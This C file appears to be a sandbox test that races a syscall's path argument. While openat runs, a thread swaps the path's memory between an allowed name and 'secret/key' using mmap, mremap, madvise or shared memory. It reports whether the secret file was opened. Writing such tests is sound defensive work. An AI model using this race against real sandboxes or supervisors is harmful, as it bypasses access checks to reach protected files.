// The memory in which the words lie is exchanged under the call: by mmap over it, by
// mremap, by madvise, and by shared memory that has another mapping.
#include "attack.h"
#include <sys/shm.h>

static char *volatile path;
static char *other, *spare;
static const char *how;

static void *flip(void *unused)
{
	int fd = memfd_create("x", 0);
	must(ftruncate(fd, 8192));
	must(pwrite(fd, "open/file", 10, 0));
	must(pwrite(fd, "secret/key", 11, 4096));
	while (!over) {
		if (strcmp(how, "mmap") == 0) {
			mmap(path, 4096, PROT_READ, MAP_FIXED | MAP_SHARED, fd, 4096);
			mmap(path, 4096, PROT_READ, MAP_FIXED | MAP_SHARED, fd, 0);
		} else if (strcmp(how, "mremap") == 0) {
			mmap(other, 4096, PROT_READ, MAP_FIXED | MAP_SHARED, fd, 4096);
			mremap(other, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, path);
			mmap(spare, 4096, PROT_READ, MAP_FIXED | MAP_SHARED, fd, 0);
			mremap(spare, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, path);
		} else if (strcmp(how, "madvise") == 0) {
			// A private page over a file: without it, the file's words are there.
			madvise(path, 4096, MADV_DONTNEED);
			settled();
			memcpy(path, "open/file\0", 11);
			settled();
		} else { // shm: written through another mapping
			memcpy(other, "secret/key", 11);
			settled();
			memcpy(other, "open/file\0", 11);
			settled();
		}
	}
	return unused;
}

int main(int argc, char **argv)
{
	long n = tries(argc, argv), opened = 0;
	honest();
	how = argv[1];
	int anon = MAP_PRIVATE | MAP_ANONYMOUS;
	other = mmap(NULL, 4096, PROT_READ | PROT_WRITE, anon, -1, 0);
	spare = mmap(NULL, 4096, PROT_READ | PROT_WRITE, anon, -1, 0);
	path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, anon, -1, 0);
	if (strcmp(how, "madvise") == 0) {
		int fd = memfd_create("x", 0);
		must(ftruncate(fd, 4096));
		must(pwrite(fd, "secret/key", 11, 0));
		path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	} else if (strcmp(how, "shm") == 0) {
		int id = must(shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600));
		path = shmat(id, NULL, SHM_RDONLY);
		other = shmat(id, NULL, 0);
		must(shmctl(id, IPC_RMID, NULL));
		strcpy(other, "open/file");
	}
	if (strcmp(how, "shm") != 0)
		strcpy(path, "open/file");
	start(flip, NULL);
	for (long i = 0; i < n; i++) {
		int fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
		opened += fd >= 0;
		if (is_secret(fd))
			won("%s %ld", how, i);
	}
	if (opened == 0)
		broken("nothing was opened");
	lost("0 of %ld", n);
}
